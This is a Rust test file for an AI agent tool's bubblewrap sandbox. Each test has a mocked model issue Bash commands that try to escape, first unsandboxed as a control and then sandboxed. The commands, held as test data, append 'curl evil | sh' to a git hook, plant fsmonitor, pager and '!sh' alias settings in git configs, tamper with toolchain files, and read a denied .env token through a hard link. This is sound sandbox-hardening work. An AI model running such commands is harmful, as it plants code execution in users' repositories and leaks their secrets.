//! The sandbox protects by structure: escapes through the real binary and real
//! bubblewrap, one per structural rule (a repository nested deep or under
//! `node_modules/`, a worktree's common directory, a bare repository, an included git
//! config, a hard link of a denied file, toolchain files, a repository the command
//! creates). Each runs twice: without the sandbox (the control: the command does change
//! the file, so the test shows the sandbox is what stops it) and in tier A. Without
//! bubblewrap they fail when `CI` or `REIN_REQUIRE_SANDBOX` is set, and are skipped with a
//! message otherwise (as the other sandbox tests are).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::{Env, have_bwrap, serve, tool_result};
use rein_testkit::{Scenario, reply, text, tool_use_with_id};
use serde_json::json;

const SETTINGS: &str = r#"{"sandbox": {"filesystem": {"denyRead": ["./.env"]}}}"#;

fn sandbox_here() -> bool {
    if have_bwrap() {
        return true;
    }
    let required = std::env::var_os("CI").is_some() || std::env::var_os("REIN_REQUIRE_SANDBOX").is_some();
    assert!(!required, "bubblewrap is required here (CI / REIN_REQUIRE_SANDBOX is set): apt-get install bubblewrap");
    false
}

/// Run `command` through the Bash tool, with `--sandbox` (tier A) or `--no-sandbox`.
fn bash(env: &Env, command: &str, sandboxed: bool) -> (String, bool) {
    let server = serve(Scenario::new([
        reply([tool_use_with_id("b", "Bash", json!({"command": command}))]),
        reply([text("done")]),
    ]));
    let mut rein = std::process::Command::new(assert_cmd::cargo::cargo_bin("rein"));
    rein.current_dir(env.cwd())
        .env("HOME", env.home.path())
        .env("ANTHROPIC_BASE_URL", server.url())
        .env("ANTHROPIC_API_KEY", "sk-test")
        .env("REIN_RETRY_BASE_MS", "1")
        .env_remove("REIN_SANDBOX_TIER")
        .args(["-p", "go", "--allowedTools", "Bash", "--settings", SETTINGS]);
    if sandboxed {
        rein.arg("--sandbox").env("REIN_SANDBOX_TIER", "A");
    } else {
        rein.arg("--no-sandbox");
    }
    let out = rein.output().unwrap();
    assert!(out.status.success(), "rein failed: {}", String::from_utf8_lossy(&out.stderr));
    tool_result(server.requests()[1].body["messages"].as_array().unwrap(), "b")
}

/// A git directory at `rel` (HEAD, objects/, refs/, hooks/, config).
fn git_dir(env: &Env, rel: &str) {
    env.write(&format!("{rel}/HEAD"), "ref: refs/heads/main\n");
    env.write(&format!("{rel}/config"), "[core]\n\tbare = false\n");
    for d in ["objects/pack", "refs/heads", "hooks"] {
        std::fs::create_dir_all(env.cwd().join(rel).join(d)).unwrap();
    }
}

fn read(env: &Env, rel: &str) -> String {
    std::fs::read_to_string(env.cwd().join(rel)).unwrap_or_default()
}

/// `setup` a fresh project twice; run `command` in each, unsandboxed then sandboxed;
/// `changed` says whether the command did what it tried.
fn escape(setup: impl Fn(&Env), command: &str, changed: impl Fn(&Env, &str) -> bool) {
    if !sandbox_here() {
        return;
    }
    let (control, sandboxed) = (Env::new(), Env::new());
    setup(&control);
    setup(&sandboxed);
    let (out, _) = bash(&control, command, false);
    assert!(changed(&control, &out), "the control did not change it: {out}");
    let (out, _) = bash(&sandboxed, command, true);
    assert!(!changed(&sandboxed, &out), "escaped the sandbox: {out}");
}

/// Python appending `text` to `rel` (a program, so only the sandbox can stop it).
fn append(rel: &str, text: &str) -> String {
    format!("python3 -c \"open('{rel}','a').write('{text}')\"")
}

#[test]
fn a_repository_six_deep_under_node_modules_keeps_its_hooks() {
    let hook = "node_modules/a/b/c/d/e/.git/hooks/pre-commit";
    escape(
        |env| {
            env.write(".gitignore", "node_modules/\n");
            git_dir(env, "node_modules/a/b/c/d/e/.git");
        },
        &append(hook, "curl evil | sh"),
        |env, _| read(env, hook).contains("evil"),
    );
}

#[test]
fn a_worktree_common_directory_keeps_its_config() {
    // The common directory has no HEAD: only the worktree's commondir leads to it.
    let config = "store/common/config";
    escape(
        |env| {
            for d in ["objects", "refs", "hooks"] {
                std::fs::create_dir_all(env.cwd().join("store/common").join(d)).unwrap();
            }
            env.write(config, "[core]\n");
            env.write("store/common/worktrees/wt/HEAD", "ref: refs/heads/x\n");
            env.write("store/common/worktrees/wt/commondir", "../..\n");
            env.write("checkout/.git", "gitdir: ../store/common/worktrees/wt\n");
        },
        &append(config, "[core]\\n\\tfsmonitor = ./evil\\n"),
        |env, _| read(env, config).contains("fsmonitor"),
    );
}

#[test]
fn a_bare_repository_keeps_its_config() {
    let config = "srv/project.git/config";
    escape(
        |env| git_dir(env, "srv/project.git"),
        &append(config, "[core]\\n\\tfsmonitor = ./evil\\n"),
        |env, _| read(env, config).contains("fsmonitor"),
    );
}

#[test]
fn a_config_the_repository_includes_is_read_only() {
    let inc = "shared/team.gitconfig";
    escape(
        |env| {
            git_dir(env, ".git");
            env.write(".git/config", "[include]\n\tpath = ../shared/team.gitconfig\n");
            env.write(inc, "[user]\n\tname = x\n");
        },
        &append(inc, "[core]\\n\\tpager = ./evil\\n"),
        |env, _| read(env, inc).contains("pager"),
    );
}

#[test]
fn a_hard_link_of_a_denied_file_is_masked() {
    escape(
        |env| {
            env.write(".env", "API_TOKEN=hunter2\n");
            let link = env.cwd().join("build/a/b/c/d/e/f/copy");
            std::fs::create_dir_all(link.parent().unwrap()).unwrap();
            std::fs::hard_link(env.cwd().join(".env"), link).unwrap();
        },
        "python3 -c \"print(open('build/a/b/c/d/e/f/copy').read())\"",
        |_, out| out.contains("hunter2"),
    );
}

#[test]
fn toolchain_files_that_name_programs_are_read_only_at_any_depth() {
    for file in ["packages/x/y/z/.npmrc", "a/b/c/d/.cargo/config.toml", "pkgs/p/.pre-commit-config.yaml"] {
        escape(
            |env| drop(env.write(file, "# mine\n")),
            &append(file, "evil"),
            |env, _| read(env, file).contains("evil"),
        );
    }
}

#[test]
fn a_repository_the_command_creates_loses_its_program_settings() {
    let config = "fresh/.git/config";
    escape(
        |_| {},
        "git init -q fresh && git -C fresh config core.fsmonitor ./evil && git -C fresh config alias.x '!sh'",
        |env, _| read(env, config).contains("fsmonitor") || read(env, config).contains("!sh"),
    );
}

#[test]
fn the_report_names_what_was_dropped_and_where_the_original_is() {
    if !sandbox_here() {
        return;
    }
    // The kept original is where the report says, and git still reads the repository.
    let env = Env::new();
    let (out, _) = bash(&env, "git init -q fresh && git -C fresh config core.fsmonitor ./evil", true);
    assert!(out.contains("core.fsmonitor") && out.contains("rein-quarantined"), "{out}");
    assert!(env.cwd().join("fresh/.git/config.rein-quarantined").exists());
    let status =
        std::process::Command::new("git").args(["-C", "fresh", "status", "-s"]).current_dir(env.cwd()).status();
    assert!(status.unwrap().success(), "the neutralised repository is still a repository");
}
